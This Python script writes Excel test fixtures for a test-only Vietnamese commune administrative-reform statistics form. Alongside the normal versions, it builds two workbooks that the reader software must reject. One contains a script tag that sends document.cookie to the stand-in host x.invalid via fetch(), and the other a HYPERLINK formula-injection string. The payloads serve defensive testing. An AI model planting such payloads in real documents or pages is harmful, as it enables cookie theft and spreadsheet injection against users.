#!/usr/bin/python3
"""Writes test/fixtures/forms/thu-nghiem-xa.xlsx: a form written for the tests, NOT an official form; beside it, its
second version by XlsxWriter (thu-nghiem-xa-2025-2.xlsx: two rows added, valid from 2026) and LibreOffice's re-save of
the first (thu-nghiem-xa-libreoffice.xlsx), so form workbooks from three writers are read; and two form files that
must be refused (hong-cong-thuc.xlsx: a formula; hong-ma-lenh.xlsx: script and formula text).

It is authored with openpyxl on purpose, so the file the tests read is not written by the library that reads it,
and it is written the way a specialist writes a form in Excel: ids and kinds left out where the printed table says
them (STT "1.1" nests under "1", "a)" under the numbered row above, units give kinds). Other sections, units and
outline than the built-in form. Run: /usr/bin/python3 scripts/make-test-form.py (Debian python3-openpyxl, python3-xlsxwriter; soffice)
"""
import datetime
import os
import sys

import xlsxwriter

from openpyxl import Workbook

FORMS = os.path.join(os.path.dirname(__file__), "..", "test", "fixtures", "forms")
OUT = os.path.join(FORMS, "thu-nghiem-xa.xlsx")
OUT_V2 = os.path.join(FORMS, "thu-nghiem-xa-2025-2.xlsx")
OUT_LIBREOFFICE = os.path.join(FORMS, "thu-nghiem-xa-libreoffice.xlsx")

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "fixtures"))
from reading_fixtures import libreoffice_copy  # noqa: E402
from form_workbook import sheet, write_openpyxl_form  # noqa: E402

FACTS = [
    ("Mục", "Nội dung"),
    ("Mã mẫu", "thu-nghiem-xa-2025"),
    ("Tên mẫu", "Thống kê số liệu cải cách hành chính của UBND xã (mẫu thử nghiệm)"),
    ("Cơ quan ban hành", "Không có: mẫu viết cho kiểm thử"),
    ("Văn bản ban hành", "Không có văn bản ban hành"),
    ("Cấp báo cáo", "UBND xã"),
    ("Tỉnh, thành phố", "Thử Nghiệm"),
    ("Phiên bản", "2025.1"),
    ("Áp dụng từ ngày", datetime.date(2025, 7, 1)),
    ("Tình trạng", "thử nghiệm"),
    ("Ghi chú", "Mẫu viết cho kiểm thử, không phải mẫu chính thức của cơ quan nào."),
]

INDICATOR_HEADER = ["STT", "Chỉ tiêu thống kê", "Đơn vị tính", "Loại", "Mã chỉ tiêu", "Kỳ báo cáo phải có số liệu", "Lũy kế", "Hướng dẫn ghi chú"]
INDICATORS = [
    ("I", "Công tác chỉ đạo, điều hành của xã", None, None, None, None, None, None),
    (1, "Tỷ lệ hoàn thành kế hoạch cải cách hành chính của xã", "%", None, None, None, None, None),
    ("1.1", "Số nhiệm vụ trong kế hoạch của xã", "Nhiệm vụ", None, None, None, None, None),
    ("1.2", "Số nhiệm vụ xã đã hoàn thành", "Nhiệm vụ", None, None, None, None, None),
    (2, "Có tổ chức đối thoại với người dân về thủ tục hành chính", "Không = 0 Có = 1", None, None, "Năm", None, None),
    ("2.1", "Số cuộc đối thoại đã tổ chức", "Cuộc", None, None, "Năm", None, None),
    ("II", "Bộ phận tiếp nhận và trả kết quả của xã", None, None, None, None, None, None),
    (1, "Tổng số hồ sơ tiếp nhận trong kỳ", "Hồ sơ", None, None, None, None, None),
    ("a)", "Tiếp nhận trực tuyến", "Hồ sơ", None, None, None, None, None),
    ("b)", "Tiếp nhận trực tiếp và qua bưu chính", "Hồ sơ", None, None, None, None, None),
    (2, "Số hồ sơ đã giải quyết đúng hạn", "Hồ sơ", None, None, None, None, None),
    (3, "Tỷ lệ hồ sơ giải quyết đúng hạn", "%", None, None, None, None, None),
    (4, "Kết quả đánh giá Bộ phận một cửa của xã", "Đạt = 1 Không đạt = 0", None, None, "Năm", None, "Ghi rõ lý do nếu không đạt"),
    (5, "Hình thức tiếp nhận phản ánh, kiến nghị", "Hộp thư = 0 Điện thoại = 1 Cả hai = 2", None, None, None, None, None),
    ("III", "Chuyển đổi số của xã", None, None, None, None, None, None),
    (1, "Số lượt truy cập Trang thông tin điện tử của xã", "Lượt truy cập", None, None, None, "Có", None),
    (2, "Ý kiến, kiến nghị khác", None, "chữ", None, None, None, None),
]

RELATION_HEADER = ["Mã quan hệ", "Loại quan hệ", "Chỉ tiêu đích", "Chỉ tiêu đầu vào", "Điều kiện", "Mức độ", "Lưu ý", "Lý do (tiếng Việt)", "Lý do (tiếng Anh)"]
RELATIONS = [
    ("xa_done_le_planned", "phần không vượt tổng", "I.1.1", "I.1.2", None, "lỗi", None,
     "Nhiệm vụ đã hoàn thành là nhiệm vụ của kế hoạch, không thể nhiều hơn số nhiệm vụ trong kế hoạch.",
     "Completed tasks are tasks of the plan; they cannot outnumber the planned ones."),
    ("xa_completion_rate", "tỷ lệ", "I.1", "I.1.2 / I.1.1", None, "lỗi", None,
     "Tỷ lệ hoàn thành = số nhiệm vụ đã hoàn thành / số nhiệm vụ trong kế hoạch × 100.",
     "Completion rate = completed / planned × 100."),
    ("xa_no_dialogue_no_count", "trả lời Không thì số liệu bằng 0", "I.2", "I.2.1", "bằng 0", "lỗi", None,
     "Đã tổ chức cuộc đối thoại nào thì câu trả lời là Có.", "Any dialogue held means the answer is yes."),
    ("xa_files_sum", "tổng bằng các phần", "II.1", "II.1.a + II.1.b", None, "lỗi", None,
     "Hồ sơ tiếp nhận trực tuyến và trực tiếp gộp lại là toàn bộ hồ sơ tiếp nhận.",
     "Files received online and in person together are all files received."),
    ("xa_on_time_le_received", "phần không vượt tổng", "II.1", "II.2", None, "cảnh báo", "có thể gồm kỳ trước",
     "Hồ sơ giải quyết đúng hạn thường nằm trong số hồ sơ tiếp nhận; có thể gồm hồ sơ tiếp nhận từ kỳ trước.",
     "Files resolved on time are normally among those received; some may have been received before the period."),
    ("xa_on_time_rate", "tỷ lệ", "II.3", "II.2 / II.1", None, "lỗi", None,
     "Tỷ lệ đúng hạn = số hồ sơ giải quyết đúng hạn / tổng số hồ sơ tiếp nhận × 100.",
     "On-time rate = files resolved on time / files received × 100."),
    ("xa_not_passed_note", "cần ghi chú", "II.4", None, "bằng 0", "cảnh báo", None,
     "Mẫu yêu cầu ghi rõ lý do khi Bộ phận một cửa không đạt.", "The form asks for the reason when the one-stop unit did not pass."),
]


# Version 2025.2 of the same form (same id): a row added in II and in III, valid from 1/1/2026.
FACTS_V2 = [(k, "2025.2") if k == "Phiên bản" else (k, datetime.date(2026, 1, 1)) if k == "Áp dụng từ ngày" else (k, v) for k, v in FACTS]
INDICATORS_V2 = (
    INDICATORS[:14]
    + [(6, "Số hồ sơ trả kết quả qua dịch vụ bưu chính công ích", "Hồ sơ", None, None, None, None, None)]
    + INDICATORS[14:16]
    + [(2, "Số thủ tục hành chính cung cấp dịch vụ công trực tuyến toàn trình", "Thủ tục", None, None, None, None, None)]
    + [(3,) + INDICATORS[16][1:]]
)
RELATIONS_V2 = RELATIONS + [
    ("xa_post_le_received", "phần không vượt tổng", "II.1", "II.6", None, "cảnh báo", "có thể gồm kỳ trước",
     "Hồ sơ trả qua bưu chính thường nằm trong số hồ sơ tiếp nhận; có thể gồm hồ sơ tiếp nhận từ kỳ trước.",
     "Files returned by post are normally among those received; some may have been received before the period."),
]


def xlsxwriter_form(path):
    """The second version as XlsxWriter writes it: inline strings off, a date cell, widths, a bold header."""
    wb = xlsxwriter.Workbook(path)
    wb.set_properties({"author": "cchc tests (XlsxWriter)", "created": datetime.datetime(2026, 1, 1)})
    bold = wb.add_format({"bold": True})
    date = wb.add_format({"num_format": "dd/mm/yyyy"})
    for title, header, rows in (("Thông tin", FACTS_V2[0], FACTS_V2[1:]), ("Chỉ tiêu", INDICATOR_HEADER, INDICATORS_V2), ("Quan hệ", RELATION_HEADER, RELATIONS_V2)):
        ws = wb.add_worksheet(title)
        ws.write_row(0, 0, list(header), bold)
        for r, row in enumerate(rows, start=1):
            for c, v in enumerate(row):
                if isinstance(v, datetime.date):
                    ws.write_datetime(r, c, datetime.datetime(v.year, v.month, v.day), date)
                elif v is not None:
                    ws.write(r, c, v)
        ws.set_column(0, 0, 8)
        ws.set_column(1, 1, 60)
        ws.freeze_panes(1, 0)
    wb.close()


def hostile_forms():
    """Form files a specialist must never be able to load, as openpyxl writes them: a label that is a formula (no
    saved result, as openpyxl leaves it), and a label with script and a reason with formula text."""
    wb = Workbook()
    wb.remove(wb.active)
    sheet(wb, "Thông tin", FACTS[0], FACTS[1:], [22, 80])
    ws = sheet(wb, "Chỉ tiêu", INDICATOR_HEADER, INDICATORS, [6, 60, 24, 8, 10, 14, 8, 26])
    ws["B4"] = '=CONCATENATE("Số nhiệm vụ ","trong kế hoạch của xã")'
    sheet(wb, "Quan hệ", RELATION_HEADER, RELATIONS, [24, 28, 12, 18, 10, 10, 18, 60, 50])
    wb.properties.created = wb.properties.modified = datetime.datetime(2025, 7, 1)
    wb.save(os.path.join(FORMS, "hong-cong-thuc.xlsx"))
    wb = Workbook()
    wb.remove(wb.active)
    sheet(wb, "Thông tin", FACTS[0], FACTS[1:], [22, 80])
    ws = sheet(wb, "Chỉ tiêu", INDICATOR_HEADER, INDICATORS, [6, 60, 24, 8, 10, 14, 8, 26])
    ws["B4"] = 'Số nhiệm vụ <script>fetch("https://x.invalid/?c="+document.cookie)</script>'
    rel = sheet(wb, "Quan hệ", RELATION_HEADER, RELATIONS, [24, 28, 12, 18, 10, 10, 18, 60, 50])
    # Text that reads as a formula, kept as text (a string cell, not a formula).
    rel["H2"] = '=HYPERLINK("https://x.invalid","Bấm vào đây")'
    rel["H2"].data_type = "s"
    wb.properties.created = wb.properties.modified = datetime.datetime(2025, 7, 1)
    wb.save(os.path.join(FORMS, "hong-ma-lenh.xlsx"))


def main():
    write_openpyxl_form(OUT, (FACTS[0], FACTS[1:]), (INDICATOR_HEADER, INDICATORS), (RELATION_HEADER, RELATIONS),
                        [6, 60, 24, 8, 10, 14, 8, 26], [24, 28, 12, 18, 10, 10, 18, 60, 50])
    xlsxwriter_form(OUT_V2)
    libreoffice_copy(OUT, OUT_LIBREOFFICE)
    hostile_forms()
    for path in (OUT, OUT_V2, OUT_LIBREOFFICE):
        print(os.path.relpath(path))


if __name__ == "__main__":
    main()
